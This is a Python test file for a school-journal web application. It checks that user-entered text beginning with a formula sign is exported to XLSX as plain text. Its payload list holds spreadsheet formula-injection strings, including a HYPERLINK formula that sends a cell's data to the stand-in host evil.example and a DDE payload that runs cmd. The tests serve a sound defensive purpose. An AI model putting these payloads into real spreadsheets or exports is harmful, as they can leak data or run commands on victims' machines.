"""Finding 6: a cell a user typed never leaves in an XLSX export as a formula."""

import io

from openpyxl import load_workbook

from ishenim.testing import BaseTestCase
from journal.work import register
from openings.documents import journal_xlsx as openings_journal_xlsx
from reports.models import QuarterlyReport

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return {c.value: c for row in sheet.iter_rows() for c in row if c.value is not None}


class XlsxFormulaTests(BaseTestCase):
    def assertIsText(self, found, value):
        self.assertIn(value, found)
        self.assertEqual(found[value].data_type, "s", value)
        self.assertTrue(found[value].quotePrefix, value)

    def test_a_journal_summary_beginning_with_a_formula_sign_is_exported_as_text(self):
        for text in DANGEROUS:
            register(self.submit()[0], self.aida, summary=text)
        self.login()
        found = cells(self.client.get("/staff/journal.xlsx").content)
        for text in DANGEROUS:
            self.assertIsText(found, text)

    def test_report_conclusions_beginning_with_a_formula_sign_are_exported_as_text(self):
        self.login()
        self.client.post(
            f"/staff/reports/school/{self.school.slug}/quarterly/draft/",
            {"year": 2025, "quarter": 1},
        )
        report = QuarterlyReport.objects.get()
        QuarterlyReport.objects.filter(pk=report.pk).update(
            conclusions=DANGEROUS[0], proposals=DANGEROUS[3]
        )
        found = cells(self.client.get(f"/staff/reports/quarterly/{report.pk}/report.xlsx").content)
        self.assertIsText(found, DANGEROUS[0])
        self.assertIsText(found, DANGEROUS[3])

    def test_an_openings_journal_cell_beginning_with_a_formula_sign_is_exported_as_text(self):
        # The school name is typed by whoever runs create_school; it opens the title cell.
        content = openings_journal_xlsx("=1+1", [], "ky")
        found = load_workbook(io.BytesIO(content)).active["A1"]
        self.assertTrue(found.value.startswith("=1+1"))
        self.assertEqual(found.data_type, "s")
        self.assertTrue(found.quotePrefix)

    def test_ordinary_text_and_numbers_are_left_alone(self):
        register(self.submit()[0], self.aida, summary="Үйдөгү чатак")
        self.login()
        found = cells(self.client.get("/staff/journal.xlsx").content)
        self.assertFalse(found["Үйдөгү чатак"].quotePrefix)
        self.assertIn(1, found)
